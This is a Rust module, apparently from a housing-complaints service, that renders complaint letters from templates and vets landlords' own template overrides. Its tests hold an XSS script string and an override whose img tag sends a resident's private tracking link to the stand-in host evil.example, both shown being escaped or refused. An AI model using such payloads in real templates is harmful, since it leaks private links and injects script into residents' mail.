//! The templates of the messages Redress sends, rendered with minijinja.
//!
//! Each kind of message has three templates: `{kind}.subject.j2`, `{kind}.txt.j2` and
//! `{kind}.html.j2`. HTML is escaped automatically (by the `.html` in the name); subject and
//! plain text are not. The HTML of a letter extends the shared accessible layout
//! `base.html.j2`, and its plain text `base.txt.j2`.
//!
//! The defaults are embedded in the binary. A landlord may replace any part of a kind with
//! its own source (an [`Override`]); an override is rendered in a fresh environment of its
//! own, with a fuel limit, and is tried against sample data before it is kept, so a broken
//! one is refused naming the part at fault.

use minijinja::syntax::SyntaxConfig;
use minijinja::value::{Serde, Value};
use minijinja::{Environment, UndefinedBehavior};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use std::collections::BTreeSet;
use std::sync::{PoisonError, RwLock};

/// The default templates: a name and its source, one line per template.
pub const DEFAULTS: &[(&str, &str)] = &[
    ("base.html.j2", include_str!("../templates/base.html.j2")),
    ("base.txt.j2", include_str!("../templates/base.txt.j2")),
    // Code 1.2, 3.1: the complaint is logged, with its reference and tracking link.
    (
        "complaint_received.subject.j2",
        include_str!("../templates/complaint_received.subject.j2"),
    ),
    (
        "complaint_received.txt.j2",
        include_str!("../templates/complaint_received.txt.j2"),
    ),
    (
        "complaint_received.html.j2",
        include_str!("../templates/complaint_received.html.j2"),
    ),
    // A new private tracking link, sent on the resident's request; the old one ends.
    (
        "tracking_link.subject.j2",
        include_str!("../templates/tracking_link.subject.j2"),
    ),
    (
        "tracking_link.txt.j2",
        include_str!("../templates/tracking_link.txt.j2"),
    ),
    (
        "tracking_link.html.j2",
        include_str!("../templates/tracking_link.html.j2"),
    ),
    // Code 5.6, 5.7, 6.2: the stage 1 acknowledgement with the complaint definition.
    (
        "acknowledgement.subject.j2",
        include_str!("../templates/acknowledgement.subject.j2"),
    ),
    (
        "acknowledgement.txt.j2",
        include_str!("../templates/acknowledgement.txt.j2"),
    ),
    (
        "acknowledgement.html.j2",
        include_str!("../templates/acknowledgement.html.j2"),
    ),
    // Code 6.11, 6.13: the stage 2 acknowledgement.
    (
        "stage2_acknowledgement.subject.j2",
        include_str!("../templates/stage2_acknowledgement.subject.j2"),
    ),
    (
        "stage2_acknowledgement.txt.j2",
        include_str!("../templates/stage2_acknowledgement.txt.j2"),
    ),
    (
        "stage2_acknowledgement.html.j2",
        include_str!("../templates/stage2_acknowledgement.html.j2"),
    ),
    // Code 2.4: a complaint not accepted, and the right to go to the Ombudsman.
    (
        "not_accepted.subject.j2",
        include_str!("../templates/not_accepted.subject.j2"),
    ),
    (
        "not_accepted.txt.j2",
        include_str!("../templates/not_accepted.txt.j2"),
    ),
    (
        "not_accepted.html.j2",
        include_str!("../templates/not_accepted.html.j2"),
    ),
    // Code 6.5, 6.16: an extension, with the Ombudsman's contact details.
    (
        "extension.subject.j2",
        include_str!("../templates/extension.subject.j2"),
    ),
    (
        "extension.txt.j2",
        include_str!("../templates/extension.txt.j2"),
    ),
    (
        "extension.html.j2",
        include_str!("../templates/extension.html.j2"),
    ),
    // Code 6.9 a–g: the stage 1 response.
    (
        "stage1_response.subject.j2",
        include_str!("../templates/stage1_response.subject.j2"),
    ),
    (
        "stage1_response.txt.j2",
        include_str!("../templates/stage1_response.txt.j2"),
    ),
    (
        "stage1_response.html.j2",
        include_str!("../templates/stage1_response.html.j2"),
    ),
    // Code 6.19 a–g: the stage 2 (final) response.
    (
        "stage2_response.subject.j2",
        include_str!("../templates/stage2_response.subject.j2"),
    ),
    (
        "stage2_response.txt.j2",
        include_str!("../templates/stage2_response.txt.j2"),
    ),
    (
        "stage2_response.html.j2",
        include_str!("../templates/stage2_response.html.j2"),
    ),
    // Code 5.11: an escalation refused, and the right to go to the Ombudsman.
    (
        "escalation_refused.subject.j2",
        include_str!("../templates/escalation_refused.subject.j2"),
    ),
    (
        "escalation_refused.txt.j2",
        include_str!("../templates/escalation_refused.txt.j2"),
    ),
    (
        "escalation_refused.html.j2",
        include_str!("../templates/escalation_refused.html.j2"),
    ),
];

/// Sample data every letter shares (the landlord, the recipient, the reference...), under
/// each kind's own sample.
pub const LETTER_SAMPLE: &str = include_str!("../templates/samples/letter.json");

/// Sample data of each kind, for trying a landlord's own template before it is kept. A kind
/// without a sample has its overrides compiled but not rendered.
pub const SAMPLES: &[(&str, &str)] = &[
    (
        "complaint_received",
        include_str!("../templates/samples/complaint_received.json"),
    ),
    (
        "tracking_link",
        include_str!("../templates/samples/tracking_link.json"),
    ),
    (
        "acknowledgement",
        include_str!("../templates/samples/acknowledgement.json"),
    ),
    (
        "stage2_acknowledgement",
        include_str!("../templates/samples/stage2_acknowledgement.json"),
    ),
    (
        "not_accepted",
        include_str!("../templates/samples/not_accepted.json"),
    ),
    (
        "extension",
        include_str!("../templates/samples/extension.json"),
    ),
    (
        "stage1_response",
        include_str!("../templates/samples/stage1_response.json"),
    ),
    (
        "stage2_response",
        include_str!("../templates/samples/stage2_response.json"),
    ),
    (
        "escalation_refused",
        include_str!("../templates/samples/escalation_refused.json"),
    ),
];

/// How much a landlord's own template may compute in one rendering (minijinja's fuel: about
/// one unit per instruction or byte produced).
const OVERRIDE_FUEL: u64 = 5_000_000;
/// How many of the landlords' own templates are kept compiled before the copy is cleared and
/// filled again as they are used.
const OWN_KEPT: usize = 2_000;
/// The longest source accepted for a subject, and for a text or HTML template.
pub const MAX_SUBJECT_SOURCE: usize = 2_000;
pub const MAX_BODY_SOURCE: usize = 100_000;

/// The three parts of a message.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Part {
    Subject,
    Text,
    Html,
}

impl Part {
    pub const ALL: [Part; 3] = [Part::Subject, Part::Text, Part::Html];

    /// The field that names the part in requests and errors.
    pub fn field(self) -> &'static str {
        match self {
            Part::Subject => "subject",
            Part::Text => "text",
            Part::Html => "html",
        }
    }

    /// What follows the kind in the template's name; the extension decides escaping.
    fn suffix(self) -> &'static str {
        match self {
            Part::Subject => "subject.j2",
            Part::Text => "txt.j2",
            Part::Html => "html.j2",
        }
    }

    fn max_source(self) -> usize {
        match self {
            Part::Subject => MAX_SUBJECT_SOURCE,
            Part::Text | Part::Html => MAX_BODY_SOURCE,
        }
    }
}

fn template_name(kind: &str, part: Part) -> String {
    format!("{kind}.{}", part.suffix())
}

/// A landlord's own source for some parts of a kind; the others stay the default.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Override {
    pub subject: Option<String>,
    pub text: Option<String>,
    pub html: Option<String>,
}

impl Override {
    pub fn part(&self, part: Part) -> Option<&str> {
        match part {
            Part::Subject => self.subject.as_deref(),
            Part::Text => self.text.as_deref(),
            Part::Html => self.html.as_deref(),
        }
    }

    pub fn is_empty(&self) -> bool {
        Part::ALL.iter().all(|p| self.part(*p).is_none())
    }
}

/// A message ready to send: one subject line, plain text, and HTML.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rendered {
    pub subject: String,
    pub text: String,
    pub html: String,
}

/// The default sources of one kind.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Sources {
    pub subject: &'static str,
    pub text: &'static str,
    pub html: &'static str,
}

#[derive(Debug, thiserror::Error)]
pub enum TemplateError {
    #[error("there is no message kind `{0}`")]
    UnknownKind(String),
    #[error("the {field} template of `{kind}` could not be rendered: {message}")]
    Render {
        kind: String,
        field: &'static str,
        message: String,
    },
}

/// The settings every environment shares: block tags take their whole line, and a value
/// that does not exist is an error when printed (a misspelt name in a landlord's template is
/// caught when it is checked, not sent as a blank).
fn environment<'a>() -> Result<Environment<'a>, minijinja::Error> {
    let mut env = Environment::new();
    env.set_undefined_behavior(UndefinedBehavior::SemiStrict);
    env.set_syntax(
        SyntaxConfig::builder()
            .trim_blocks(true)
            .lstrip_blocks(true)
            .build()?,
    );
    Ok(env)
}

/// An environment for the landlords' own templates: the defaults' syntax, the layouts, and a
/// limit on what one rendering may compute.
fn own_environment(layouts: &[(&'static str, &'static str)]) -> Result<Own, minijinja::Error> {
    let mut env = environment()?;
    env.set_fuel(Some(OVERRIDE_FUEL));
    for (name, layout) in layouts {
        env.add_template(name, layout)?;
    }
    Ok(Own { env, kept: 0 })
}

/// The name a landlord's own template is kept under: the SHA-256 of its source, so two
/// landlords' identical sources share one compiled copy and different ones never collide,
/// then its kind and part. The name ends as the default's does (`.html` for the HTML part),
/// because minijinja escapes by the name's ending.
fn own_name(kind: &str, part: Part, source: &str) -> String {
    let digest = Sha256::digest(source.as_bytes());
    let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
    format!("own/{hex}/{}", template_name(kind, part))
}

/// Collapses a rendered subject to one line: a header never breaks.
fn one_line(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The kind and part a default template belongs to, when it belongs to one.
fn kind_of(name: &str) -> Option<(&str, Part)> {
    Part::ALL.into_iter().find_map(|p| {
        name.strip_suffix(p.suffix())
            .and_then(|k| k.strip_suffix('.'))
            .map(|k| (k, p))
    })
}

/// The templates of every kind of message.
pub struct Templates {
    env: Environment<'static>,
    kinds: BTreeSet<&'static str>,
    /// Shared templates (layouts) that a landlord's own template may extend.
    layouts: Vec<(&'static str, &'static str)>,
    /// The landlords' own templates, compiled the first time each is used and kept by the
    /// digest of their source: compiling one costs about ten times rendering it (BENCHMARKS.md,
    /// "What a letter costs").
    own: RwLock<Own>,
}

/// The kept environment of the landlords' own templates, with the layouts they may extend.
struct Own {
    env: Environment<'static>,
    kept: usize,
}

impl Templates {
    /// Loads the defaults. Fails when a template does not compile or a kind lacks one of its
    /// three parts.
    pub fn new() -> anyhow::Result<Self> {
        let mut env = environment()?;
        for (name, source) in DEFAULTS {
            env.add_template(name, source)
                .map_err(|e| anyhow::anyhow!("the default template {name}: {e}"))?;
        }
        let kinds: BTreeSet<&'static str> = DEFAULTS
            .iter()
            .filter_map(|(name, _)| match kind_of(name) {
                Some((kind, Part::Subject)) => Some(kind),
                _ => None,
            })
            .collect();
        for kind in &kinds {
            for part in Part::ALL {
                let name = template_name(kind, part);
                anyhow::ensure!(
                    DEFAULTS.iter().any(|(n, _)| *n == name),
                    "the message kind `{kind}` has no default template {name}"
                );
            }
        }
        let layouts: Vec<(&'static str, &'static str)> = DEFAULTS
            .iter()
            .filter(|(name, _)| kind_of(name).is_none_or(|(k, _)| !kinds.contains(k)))
            .copied()
            .collect();
        let own = RwLock::new(own_environment(&layouts)?);
        Ok(Templates {
            env,
            kinds,
            layouts,
            own,
        })
    }

    /// Every kind of message, in name order.
    pub fn kinds(&self) -> impl Iterator<Item = &'static str> + '_ {
        self.kinds.iter().copied()
    }

    pub fn has_kind(&self, kind: &str) -> bool {
        self.kinds.contains(kind)
    }

    /// The default sources of a kind.
    pub fn defaults(&self, kind: &str) -> Option<Sources> {
        if !self.has_kind(kind) {
            return None;
        }
        let source = |part| {
            let name = template_name(kind, part);
            DEFAULTS
                .iter()
                .find(|(n, _)| *n == name)
                .map(|(_, s)| *s)
                .unwrap_or_default()
        };
        Some(Sources {
            subject: source(Part::Subject),
            text: source(Part::Text),
            html: source(Part::Html),
        })
    }

    /// Renders a message of `kind` from any serialisable context, with the landlord's own
    /// templates where it has them.
    pub fn render(
        &self,
        kind: &str,
        ctx: &impl Serialize,
        overrides: Option<&Override>,
    ) -> Result<Rendered, TemplateError> {
        if !self.has_kind(kind) {
            return Err(TemplateError::UnknownKind(kind.to_owned()));
        }
        let ctx = Value::from(Serde(ctx));
        let part = |part: Part| {
            let rendered = match overrides.and_then(|o| o.part(part)) {
                Some(source) => self
                    .render_override(kind, part, source, &ctx)
                    .map_err(|e| e.to_string())
                    .and_then(|out| link_placed(part, out)),
                None => self
                    .env
                    .get_template(&template_name(kind, part))
                    .and_then(|t| t.render(&ctx))
                    .map_err(|e| e.to_string()),
            };
            rendered.map_err(|message| TemplateError::Render {
                kind: kind.to_owned(),
                field: part.field(),
                message,
            })
        };
        let subject = one_line(&part(Part::Subject)?);
        if subject.is_empty() {
            return Err(TemplateError::Render {
                kind: kind.to_owned(),
                field: Part::Subject.field(),
                message: "the subject is empty".into(),
            });
        }
        Ok(Rendered {
            subject,
            text: part(Part::Text)?,
            html: part(Part::Html)?,
        })
    }

    /// Renders a landlord's own template in a fresh environment holding only the shared
    /// layouts and that template, with limited fuel.
    fn render_override(
        &self,
        kind: &str,
        part: Part,
        source: &str,
        ctx: &Value,
    ) -> Result<String, minijinja::Error> {
        let name = own_name(kind, part, source);
        {
            let own = self.own.read().unwrap_or_else(PoisonError::into_inner);
            if let Ok(t) = own.env.get_template(&name) {
                return t.render(ctx);
            }
        }
        let mut own = self.own.write().unwrap_or_else(PoisonError::into_inner);
        if own.kept >= OWN_KEPT {
            *own = own_environment(&self.layouts)?;
        }
        if own.env.get_template(&name).is_err() {
            own.env
                .add_template_owned(name.clone(), source.to_owned())?;
            own.kept += 1;
        }
        own.env.get_template(&name)?.render(ctx)
    }

    /// How hard the letter of `kind` is to read, as sent with its sample data: the plain
    /// text (what a screen reader and an email client without HTML give), measured by
    /// [`redress_domain::readability::measure`]. With `overrides`, the landlord's own version.
    /// None for a kind without sample data or a template that does not render.
    pub fn reading(
        &self,
        kind: &str,
        overrides: Option<&Override>,
    ) -> Option<redress_domain::readability::Reading> {
        let sample = sample_data(kind)?;
        let rendered = self.render(kind, &sample, overrides).ok()?;
        redress_domain::readability::measure(&rendered.text)
    }

    /// Tries a landlord's own templates: each part given must compile and, where the kind has
    /// sample data, render it (a subject to a non-empty line). The error names the part
    /// (`subject`, `text` or `html`) and says what is wrong.
    pub fn check_override(&self, kind: &str, o: &Override) -> Result<(), (&'static str, String)> {
        let sample = sample(kind);
        for part in Part::ALL {
            let Some(source) = o.part(part) else {
                continue;
            };
            let field = part.field();
            if source.trim().is_empty() {
                return Err((
                    field,
                    "is empty: leave it out to keep the default".to_owned(),
                ));
            }
            if source.chars().count() > part.max_source() {
                return Err((
                    field,
                    format!("must be at most {} characters", part.max_source()),
                ));
            }
            let rendered = match &sample {
                Some(ctx) => self.render_override(kind, part, source, ctx),
                None => self.compile_override(kind, part, source),
            }
            .map_err(|e| (field, e.to_string()))
            .and_then(|out| link_placed(part, out).map_err(|m| (field, m)))?;
            if part == Part::Subject && sample.is_some() && one_line(&rendered).is_empty() {
                return Err((field, "renders to an empty subject line".to_owned()));
            }
        }
        Ok(())
    }

    fn compile_override(
        &self,
        kind: &str,
        part: Part,
        source: &str,
    ) -> Result<String, minijinja::Error> {
        let mut env = environment()?;
        for (name, layout) in &self.layouts {
            env.add_template(name, layout)?;
        }
        env.add_template_owned(template_name(kind, part), source.to_owned())?;
        Ok(String::new())
    }
}

/// The sample data of a kind, as JSON: the letter's shared sample with the kind's own on top.
/// It shows a template's author every name the kind's templates may use.
pub fn sample_data(kind: &str) -> Option<serde_json::Value> {
    let (_, own) = SAMPLES.iter().find(|(k, _)| *k == kind)?;
    let mut base: serde_json::Map<String, serde_json::Value> =
        serde_json::from_str(LETTER_SAMPLE).ok()?;
    let own: serde_json::Map<String, serde_json::Value> = serde_json::from_str(own).ok()?;
    base.extend(own);
    Some(serde_json::Value::Object(base))
}

/// A landlord's own HTML as rendered, if it puts a private link only where it may stand
/// (see [`crate::link_check`]).
fn link_placed(part: Part, out: String) -> Result<String, String> {
    if part == Part::Html {
        crate::link_check::check(&out, redress_store::outbox::LINK_PLACEHOLDER)
            .map_err(str::to_owned)?;
    }
    Ok(out)
}

fn sample(kind: &str) -> Option<Value> {
    sample_data(kind).map(|v| Value::from(Serde(v)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn templates() -> Templates {
        Templates::new().unwrap()
    }

    fn sample_json(kind: &str) -> serde_json::Value {
        sample_data(kind).unwrap()
    }

    /// The letters to residents, each with its sample.
    const LETTERS: [&str; 8] = [
        "complaint_received",
        "acknowledgement",
        "stage2_acknowledgement",
        "not_accepted",
        "extension",
        "stage1_response",
        "stage2_response",
        "escalation_refused",
    ];

    #[test]
    fn every_letter_has_three_parts_a_sample_and_renders_it() {
        let t = templates();
        for kind in LETTERS {
            assert!(t.has_kind(kind), "{kind}");
            let r = t.render(kind, &sample_json(kind), None).unwrap();
            assert!(r.subject.contains("RIV-000042"), "{kind}: {}", r.subject);
            assert!(r.text.contains("RIV-000042"), "{kind}");
            assert!(r.text.contains("Dear Mary Jones,"), "{kind}: {}", r.text);
            assert!(r.text.contains("Telephone: 020 7946 0000"), "{kind}");
            assert!(r.html.starts_with("<!doctype html>"), "{kind}");
            assert!(r.html.contains("<html lang=\"en\">"), "{kind}");
            assert!(r.html.contains("font-size: 19px"), "{kind}");
            assert!(r.html.contains("alt=\"Riverside Homes\""), "{kind}");
            assert!(
                !r.text.contains("\n\n\n"),
                "{kind} has stray blank lines:\n{}",
                r.text
            );
        }
    }

    #[test]
    fn the_defaults_render_within_an_overrides_fuel() {
        let t = templates();
        let sampled: Vec<_> = t.kinds().filter(|k| sample_data(k).is_some()).collect();
        assert!(sampled.len() >= LETTERS.len());
        for kind in sampled {
            let d = t.defaults(kind).unwrap();
            let o = Override {
                subject: Some(d.subject.into()),
                text: Some(d.text.into()),
                html: Some(d.html.into()),
            };
            assert_eq!(t.check_override(kind, &o), Ok(()), "{kind}");
            let with = t.render(kind, &sample_json(kind), Some(&o)).unwrap();
            let without = t.render(kind, &sample_json(kind), None).unwrap();
            assert_eq!(with, without, "{kind}");
        }
    }

    #[test]
    fn a_landlords_own_template_is_compiled_once_and_a_changed_one_is_used_at_once() {
        let t = templates();
        let ctx = sample_json("acknowledgement");
        let own = |subject: &str| Override {
            subject: Some(subject.into()),
            text: None,
            html: None,
        };
        let kept = |t: &Templates| t.own.read().unwrap().kept;
        let first = t
            .render("acknowledgement", &ctx, Some(&own("About {{ reference }}")))
            .unwrap();
        assert_eq!(first.subject, "About RIV-000042");
        assert_eq!(kept(&t), 1);
        let again = t
            .render("acknowledgement", &ctx, Some(&own("About {{ reference }}")))
            .unwrap();
        assert_eq!(again, first);
        assert_eq!(kept(&t), 1);
        let changed = t
            .render("acknowledgement", &ctx, Some(&own("Re {{ reference }}")))
            .unwrap();
        assert_eq!(changed.subject, "Re RIV-000042");
        assert_eq!(kept(&t), 2);
    }

    #[test]
    fn html_is_escaped_and_plain_text_is_not() {
        let t = templates();
        let mut ctx = sample_json("acknowledgement");
        ctx["definition"] = json!("The <script>alert(1)</script> & \"quotes\"");
        ctx["landlord"]["name"] = json!("Smith & Sons <Homes>");
        let r = t.render("acknowledgement", &ctx, None).unwrap();
        assert!(
            r.html.contains(
                "The &lt;script&gt;alert(1)&lt;&#x2f;script&gt; &amp; &quot;quotes&quot;"
            ),
            "{}",
            r.html
        );
        assert!(!r.html.contains("<script>"));
        assert!(r.html.contains("alt=\"Smith &amp; Sons &lt;Homes&gt;\""));
        assert!(
            r.text
                .contains("The <script>alert(1)</script> & \"quotes\"")
        );
        assert!(r.text.contains("Smith & Sons <Homes>"));
    }

    #[test]
    fn large_print_sets_larger_type_and_more_space_between_lines() {
        let t = templates();
        let mut ctx = sample_json("extension");
        let normal = t.render("extension", &ctx, None).unwrap();
        assert!(normal.html.contains("font-size: 19px; line-height: 1.4"));
        ctx["large_print"] = json!(true);
        let large = t.render("extension", &ctx, None).unwrap();
        assert!(large.html.contains("font-size: 28px; line-height: 1.6"));
        assert!(!large.html.contains("19px"));
    }

    #[test]
    fn a_subject_is_one_line() {
        let t = templates();
        let o = Override {
            subject: Some("Your complaint\n  {{ reference }}\n\n".into()),
            ..Override::default()
        };
        let r = t
            .render("extension", &sample_json("extension"), Some(&o))
            .unwrap();
        assert_eq!(r.subject, "Your complaint RIV-000042");
    }

    #[test]
    fn an_override_replaces_only_its_parts() {
        let t = templates();
        let o = Override {
            text: Some("Hello {{ recipient.name }}, new date {{ response_due }}.".into()),
            ..Override::default()
        };
        let r = t
            .render("extension", &sample_json("extension"), Some(&o))
            .unwrap();
        assert_eq!(r.text, "Hello Mary Jones, new date 29 January 2025.");
        assert!(r.subject.contains("we need more time"));
        assert!(r.html.contains("29 January 2025"));
    }

    #[test]
    fn an_html_override_may_extend_the_layout_and_is_escaped() {
        let t = templates();
        let o = Override {
            html: Some(
                "{% extends \"base.html.j2\" %}{% block content %}<p>{{ reason }}</p>{% endblock %}"
                    .into(),
            ),
            ..Override::default()
        };
        assert_eq!(t.check_override("extension", &o), Ok(()));
        let mut ctx = sample_json("extension");
        ctx["reason"] = json!("<b>late</b>");
        let r = t.render("extension", &ctx, Some(&o)).unwrap();
        assert!(
            r.html.contains("<p>&lt;b&gt;late&lt;&#x2f;b&gt;</p>"),
            "{}",
            r.html
        );
        assert!(r.html.contains("<html lang=\"en\">"));
    }

    #[test]
    fn a_broken_override_is_refused_naming_its_part() {
        let t = templates();
        let syntax = Override {
            subject: Some("Fine {{ reference }}".into()),
            html: Some("<p>{% if reason %}unclosed</p>".into()),
            ..Override::default()
        };
        let (field, message) = t.check_override("extension", &syntax).unwrap_err();
        assert_eq!(field, "html");
        assert!(message.contains("syntax error"), "{message}");

        let misspelt = Override {
            text: Some("New date: {{ respnse_due }}".into()),
            ..Override::default()
        };
        let (field, message) = t.check_override("extension", &misspelt).unwrap_err();
        assert_eq!(field, "text");
        assert!(message.contains("undefined"), "{message}");

        let empty_subject = Override {
            subject: Some("{% if false %}x{% endif %}".into()),
            ..Override::default()
        };
        assert_eq!(
            t.check_override("extension", &empty_subject).unwrap_err().0,
            "subject"
        );

        let blank = Override {
            text: Some("  ".into()),
            ..Override::default()
        };
        assert_eq!(t.check_override("extension", &blank).unwrap_err().0, "text");
    }

    #[test]
    fn a_private_link_may_stand_only_as_text_or_as_a_links_href() {
        let t = templates();
        let fine = Override {
            html: Some(
                "<p><a href=\"{{ tracking_url }}\">Your page</a> {{ tracking_url }}</p>".into(),
            ),
            text: Some("Anywhere in plain text: {{ tracking_url }}".into()),
            ..Override::default()
        };
        assert_eq!(t.check_override("tracking_link", &fine), Ok(()));
        let leaky = Override {
            html: Some("<p>Hello</p><img src=\"https://evil.example/?{{ tracking_url }}\">".into()),
            ..Override::default()
        };
        let (field, message) = t.check_override("tracking_link", &leaky).unwrap_err();
        assert_eq!(field, "html");
        assert!(message.contains("private link"), "{message}");
        // Hidden from the sample, it is still refused when a real letter is rendered (and the
        // letter falls back to the default).
        let sly = Override {
            html: Some(
                "{% if reference != \"RIV-000042\" %}<img src=\"{{ tracking_url }}\">{% endif %}ok"
                    .into(),
            ),
            ..Override::default()
        };
        assert_eq!(t.check_override("tracking_link", &sly), Ok(()));
        let mut ctx = sample_json("tracking_link");
        ctx["reference"] = json!("RIV-000043");
        match t.render("tracking_link", &ctx, Some(&sly)) {
            Err(TemplateError::Render { field, message, .. }) => {
                assert_eq!(field, "html");
                assert!(message.contains("private link"), "{message}");
            }
            other => panic!("rendered: {other:?}"),
        }
    }

    #[test]
    fn an_override_cannot_run_forever() {
        let t = templates();
        let o = Override {
            text: Some(
                "{% for a in range(10000) %}{% for b in range(10000) %}x{% endfor %}{% endfor %}"
                    .into(),
            ),
            ..Override::default()
        };
        let (field, message) = t.check_override("extension", &o).unwrap_err();
        assert_eq!(field, "text");
        assert!(message.contains("fuel"), "{message}");
    }

    #[test]
    fn an_unknown_kind_is_an_error() {
        let t = templates();
        assert!(matches!(
            t.render("no_such_letter", &json!({}), None),
            Err(TemplateError::UnknownKind(_))
        ));
        assert!(t.defaults("base").is_none());
        assert!(!t.has_kind("base"));
    }

    #[test]
    fn every_shipped_letter_reads_in_plain_english() {
        // Code 3.2, 5.10: a Flesch–Kincaid grade under 9 (a reading age of about 11).
        let t = templates();
        let grades: Vec<(&str, f64)> = SAMPLES
            .iter()
            .map(|(kind, _)| (*kind, t.reading(kind, None).unwrap().grade))
            .collect();
        assert_eq!(grades.len(), SAMPLES.len());
        for (kind, grade) in &grades {
            assert!(
                *grade < redress_domain::readability::PLAIN_ENGLISH_GRADE,
                "{kind} reads at grade {grade}: {grades:?}"
            );
        }
    }
}
